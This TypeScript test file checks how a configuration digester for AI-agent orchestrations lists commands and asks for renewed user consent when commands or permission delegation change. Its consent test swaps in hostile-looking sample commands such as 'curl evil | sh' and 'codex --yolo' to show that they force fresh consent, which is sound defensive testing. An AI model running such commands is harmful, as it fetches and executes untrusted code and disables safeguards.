import { expect, test } from 'vitest'
import { commandsOf, consentKey, runsMore } from './digest'
import { parsed } from './read.fixture'

const TEXT = `[[orchestrations]]
name = "dev"
[[orchestrations.roles]]
name = "lead"
command = "claude"
start = true
[[orchestrations.roles]]
name = "coder"
command = "codex"
where = "ssh://box/~/app"
[[orchestrations.roles.gates]]
name = "tests"
command = "npm test"
[[modes]]
name = "ui"
init_command = "devbox shell"
[[modes.panes]]
command = "git status"
[[modes.rules]]
pattern = "^kubectl get"
`

const read = (text: string) => parsed(text).config

test('lists every command with what it is for', () => {
  expect(commandsOf(read(TEXT))).toEqual([
    { where: 'dev: lead', command: 'claude' },
    { where: 'dev: coder', command: 'codex' },
    { where: 'dev: coder, gate tests', command: 'npm test' },
    { where: 'workspace ui: first', command: 'devbox shell' },
    { where: 'workspace ui: pane git status', command: 'git status' },
    { where: 'workspace ui: rule', command: 'whatever the agent runs that matches ^kubectl get' },
  ])
})

test('consent is asked again when a command changes, and only then', () => {
  const key = consentKey(read(TEXT))
  expect(consentKey(read(`# a note\n${TEXT}seed_prompt_unknown = 1\n`))).toBe(key)
  expect(consentKey(read(TEXT.replace('start = true', 'start = true\nprompt_template = "Lead."')))).toBe(key)
  for (const [from, to] of [
    ['"codex"', '"codex --yolo"'],
    ['"npm test"', '"curl evil | sh"'],
    ['"devbox shell"', '"sh evil"'],
    ['"^kubectl get"', '"."'],
  ] as const) {
    expect(consentKey(read(TEXT.replace(from, to)))).not.toBe(key)
  }
})

test('that an orchestrator decides permissions is agreed to like a command', () => {
  const before = read(TEXT)
  const after = read(TEXT.replace('command = "codex"', 'command = "codex"\npermissions = "orchestrator"'))
  expect(commandsOf(after)).toContainEqual({
    where: 'dev: coder: the orchestrator decides its permissions, not you',
    command: 'codex',
  })
  expect(consentKey(after)).not.toBe(consentKey(before))
  const advised = read(TEXT.replace('command = "codex"', 'command = "codex"\npermissions = "advice"'))
  expect(consentKey(advised)).toBe(consentKey(before))
})

test('a team runs more when a command is new, changed, or decided by somebody else; not when one is gone', () => {
  const team = (text: string) => {
    const [first] = read(text).orchestrations
    if (!first) throw new Error('no team')
    return first
  }
  const before = team(TEXT)
  expect(runsMore(before, team(TEXT.replace('name = "coder"', 'name = "coder"\nmax_parallel = 3')))).toBe(
    false,
  )
  expect(runsMore(before, team(TEXT.replace(/\[\[orchestrations\.roles\.gates[^]*?npm test"\n/, '')))).toBe(
    false,
  )
  expect(runsMore(before, team(TEXT.replace('npm test', 'npm run all')))).toBe(true)
  expect(runsMore(before, team(TEXT.replace('"codex"', '"codex"\npermissions = "orchestrator"')))).toBe(true)
})
